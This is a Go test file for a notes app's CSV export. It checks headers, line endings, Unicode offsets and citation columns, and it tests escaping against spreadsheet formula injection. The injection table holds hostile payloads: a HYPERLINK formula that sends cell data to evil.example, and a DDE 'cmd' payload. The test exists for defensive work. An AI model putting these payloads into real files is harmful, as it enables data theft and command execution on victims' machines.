package formats_test

import (
	"bytes"
	"encoding/csv"
	"slices"
	"strconv"
	"strings"
	"testing"

	"github.com/gloss-notes/gloss/annotations"
	"github.com/gloss-notes/gloss/annotations/formats"
)

func writeCSV(t *testing.T, b annotations.Bundle) []byte {
	t.Helper()
	var buf bytes.Buffer
	if err := formats.WriteCSV(&buf, b, richLabels()); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

func readCSV(t *testing.T, data []byte) [][]string {
	t.Helper()
	r := csv.NewReader(bytes.NewReader(data))
	r.FieldsPerRecord = len(formats.CSVHeader)
	rows, err := r.ReadAll()
	if err != nil {
		t.Fatalf("the export is not valid CSV: %v", err)
	}
	return rows
}

func TestWriteCSV_Golden(t *testing.T) {
	golden(t, "csv/export.golden.csv", writeCSV(t, richBundle(t)))
}

func TestWriteCSV_Rows(t *testing.T) {
	b := richBundle(t)
	data := writeCSV(t, b)
	if bytes.HasPrefix(data, []byte("\xef\xbb\xbf")) {
		t.Error("the file starts with a byte order mark")
	}
	rows := readCSV(t, data)
	want := []string{"id", "article_id", "article_title", "color", "color_meaning", "quote", "note", "tags", "start", "end", "status", "created_at", "updated_at",
		"article_authors", "article_year", "article_doi", "article_url", "page", "author"}
	if !slices.Equal(rows[0], want) {
		t.Errorf("header %q, want %q", rows[0], want)
	}
	if len(rows) != len(b.Annotations)+1 {
		t.Fatalf("%d rows, want %d and a header", len(rows)-1, len(b.Annotations))
	}
	titles := map[string]string{}
	for _, a := range b.Articles {
		titles[a.ID.String()] = a.Title
	}
	labels := richLabels()
	unneutral := func(s string) string { return strings.TrimPrefix(s, "'") }
	for i, a := range b.Annotations {
		row := rows[i+1]
		start, _ := strconv.Atoi(row[8])
		end, _ := strconv.Atoi(row[9])
		got := []string{row[0], row[1], row[2], row[3], row[4], unneutral(row[5]), unneutral(row[6]), unneutral(row[7]), row[10], row[11], row[12]}
		exp := []string{a.ID.String(), a.ArticleID.String(), titles[a.ArticleID.String()], string(a.Color), labels[a.Color],
			a.Target.Exact, a.Note, strings.Join(a.Tags, "; "), string(a.Status),
			a.CreatedAt.Format("2006-01-02T15:04:05.000Z"), a.UpdatedAt.Format("2006-01-02T15:04:05.000Z")}
		if !slices.Equal(got, exp) || start != a.Target.Start || end != a.Target.End {
			t.Errorf("row %d:\ngot  %q [%s, %s)\nwant %q [%d, %d)", i+1, got, row[8], row[9], exp, a.Target.Start, a.Target.End)
		}
	}
	// Records end in CRLF; line breaks inside a cell stay "\n", so a
	// multi-line quote reads back exactly.
	if !bytes.HasSuffix(data, []byte("\r\n")) || bytes.Count(data, []byte("\r\n")) != len(rows) {
		t.Errorf("%d CRLF line ends for %d records", bytes.Count(data, []byte("\r\n")), len(rows))
	}
	if rows[3][5] != "*three* points:\n# not a heading\n1. an exchange of prisoners" {
		t.Errorf("multi-line quote read back as %q", rows[3][5])
	}
	// Non-ASCII and emoji: the quote and its rune offsets.
	if rows[1][5] != "café 👍 resumed" || rows[1][8] != "13" || rows[1][9] != "27" {
		t.Errorf("row 1: quote %q at [%s, %s), want café 👍 resumed at [13, 27)", rows[1][5], rows[1][8], rows[1][9])
	}
	// The article's citation: authors, year, DOI and address.
	byID := map[string]annotations.Article{}
	for _, a := range b.Articles {
		byID[a.ID.String()] = a
	}
	for i, row := range rows[1:] {
		art := byID[row[1]]
		year := ""
		if art.Year != 0 {
			year = strconv.Itoa(art.Year)
		}
		url := ""
		if strings.HasPrefix(art.Source, "https://") {
			url = art.Source
		}
		if got, want := row[13:18], []string{strings.Join(art.Authors, "; "), year, art.DOI, url, ""}; !slices.Equal(got, want) {
			t.Errorf("row %d citation %q, want %q", i+1, got, want)
		}
		// The annotation's author, last.
		if got, want := row[18], b.Annotations[i].Author; got != want {
			t.Errorf("row %d author %q, want %q", i+1, got, want)
		}
	}
}

func TestWriteCSV_FormulaInjection(t *testing.T) {
	tests := []struct {
		in, want string
	}{
		{"=1+1", "'=1+1"},
		{`=HYPERLINK("http://evil.example/?d="&A1,"click")`, `'=HYPERLINK("http://evil.example/?d="&A1,"click")`},
		{"+1", "'+1"},
		{"-1", "'-1"},
		{"-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"},
		{"@SUM(A1:A2)", "'@SUM(A1:A2)"},
		{"\t=1", "'\t=1"},
		{"\r=1", "'\r=1"},
		{"  =1", "'  =1"},
		{"\n@x", "'\n@x"},
		{"\u00a0=1", "'\u00a0=1"},
		{"'=1", "''=1"},
		{"'quoted'", "''quoted'"},
		{"a =1", "a =1"},
		{"x-1", "x-1"},
		{"1-2", "1-2"},
		{"", ""},
		{"Café 👍", "Café 👍"},
	}
	for _, tt := range tests {
		t.Run(strconv.Quote(tt.in), func(t *testing.T) {
			b := richBundle(t)
			b.Articles[0].Title = tt.in
			a := b.Annotations[0]
			a.Target.Exact, a.Note, a.Tags, a.Author = tt.in, tt.in, []string{tt.in}, tt.in
			b.Annotations = []annotations.Annotation{a}
			labels := annotations.ColorLabels{a.Color: tt.in}
			var buf bytes.Buffer
			if err := formats.WriteCSV(&buf, b, labels); err != nil {
				t.Fatal(err)
			}
			row := readCSV(t, buf.Bytes())[1]
			for _, col := range []int{2, 4, 5, 6, 7, 18} { // title, meaning, quote, note, tags, author
				got := row[col]
				if got != tt.want {
					t.Errorf("%s: cell %q, want %q", formats.CSVHeader[col], got, tt.want)
				}
				// Reversible: one leading "'" taken off gives the text.
				if orig, ok := strings.CutPrefix(got, "'"); ok && orig != tt.in || !ok && got != tt.in {
					t.Errorf("%s: cell %q does not give back %q", formats.CSVHeader[col], got, tt.in)
				}
			}
		})
	}
}
